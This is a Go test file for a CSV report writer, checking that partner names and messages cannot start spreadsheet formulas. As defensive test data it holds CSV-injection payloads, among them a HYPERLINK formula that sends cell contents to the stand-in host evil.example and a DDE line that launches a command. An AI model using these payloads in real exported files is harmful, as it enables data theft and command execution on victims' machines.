package reports

import (
	"bytes"
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/mxaudit/mxaudit/audit"
)

func TestCSVCell(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"plain", "Müller GmbH", "Müller GmbH"},
		{"empty", "", ""},
		{"formula", `=HYPERLINK("http://evil.example","click")`, `'=HYPERLINK("http://evil.example","click")`},
		{"plus", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"minus", "-2+3", "'-2+3"},
		{"at", "@SUM(A1)", "'@SUM(A1)"},
		{"leading tab", "\t=1", "'\t=1"},
		{"leading CR", "\r=1", "'\r=1"},
		{"equals inside", "a=b", "a=b"},
		{"NUL", "Contoso\x00Ltd", "Contoso\uFFFDLtd"},
		{"other control characters", "a\x01b\x1bc\x7fd", "a\uFFFDb\uFFFDc\uFFFDd"},
		{"line breaks kept", "line 1\nline 2", "line 1\nline 2"},
		{"NUL then formula", "\x00=1", "\uFFFD=1"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := CSVCell(tt.in); got != tt.want {
				t.Errorf("CSVCell(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

// TestCSVInjection writes hostile partner names and messages through every
// CSV writer and reads the files back: no cell starts a formula, no NUL
// is written, and the numbers mxaudit computed stay numbers.
func TestCSVInjection(t *testing.T) {
	res := loadFixture(t)
	res.Partners = res.Partners[:2]
	res.Partners[0].Name = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
	res.Partners[0].Error = "@cmd"
	res.Partners[1].Name = "Con\x00toso"
	res.Changes = []audit.Change{{Partner: "-1+1", Kind: "verdict_worse", Before: "Valid", After: "+Expired", SinceRun: 3}}
	res.TrustErrors = []audit.TrustError{{File: "=evil.cer", Message: "skipped: a FIFO (named pipe), not a regular file"}}
	dir := t.TempDir()
	if _, err := WriteAll(context.Background(), dir, res, []Format{CSV}, false, Options{NoFontSearch: true}); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{FilePartnersCSV, FileFindingsCSV, FileChangesCSV, FileRootsCSV, FileTrustCSV} {
		b, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		if bytes.IndexByte(b, 0) >= 0 {
			t.Errorf("%s holds a NUL byte", name)
		}
		recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		for i, rec := range recs {
			for j, f := range rec {
				if f != "" && strings.ContainsRune("=+@\t\r", rune(f[0])) {
					t.Errorf("%s row %d field %d starts a formula: %q", name, i, j, f)
				}
				if f != "" && f[0] == '-' && strings.Trim(f, "-0123456789") != "" {
					t.Errorf("%s row %d field %d starts a formula: %q", name, i, j, f)
				}
			}
		}
		switch name {
		case FilePartnersCSV:
			if recs[1][0] != `'=HYPERLINK("http://evil.example/?"&A1,"Click")` || recs[2][0] != "Con\uFFFDtoso" {
				t.Errorf("partner names %q, %q", recs[1][0], recs[2][0])
			}
			if recs[1][3] != "25" {
				t.Errorf("port %q, want 25 unescaped", recs[1][3])
			}
		case FileChangesCSV:
			if recs[1][0] != "'-1+1" || recs[1][4] != "'+Expired" || recs[1][5] != "3" {
				t.Errorf("changes row %q", recs[1])
			}
		case FileTrustCSV:
			if len(recs) != 2 || recs[1][0] != "'=evil.cer" {
				t.Errorf("trust-errors.csv %q", recs)
			}
		}
	}
	// A later run without trust errors removes the stale file.
	res.TrustErrors = nil
	if _, err := WriteAll(context.Background(), dir, res, []Format{CSV}, false, Options{NoFontSearch: true}); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(dir, FileTrustCSV)); !os.IsNotExist(err) {
		t.Errorf("stale %s left: %v", FileTrustCSV, err)
	}
}

// TestTrustErrorsInPDF: the files that could not be read are named in the report.
func TestTrustErrorsInPDF(t *testing.T) {
	res := loadFixture(t)
	res.TrustErrors = []audit.TrustError{{File: "/srv/roots/contoso-root.cer", Message: "skipped: a FIFO (named pipe), not a regular file"}}
	var b bytes.Buffer
	if err := WritePDF(&b, res, Options{NoFontSearch: true}); err != nil {
		t.Fatal(err)
	}
	text, _ := pdfText(t, b.Bytes())
	for _, want := range []string{"Trust files not read", "contoso-root.cer", "a FIFO (named pipe)"} {
		if !strings.Contains(text, want) {
			t.Errorf("PDF text lacks %q", want)
		}
	}
}
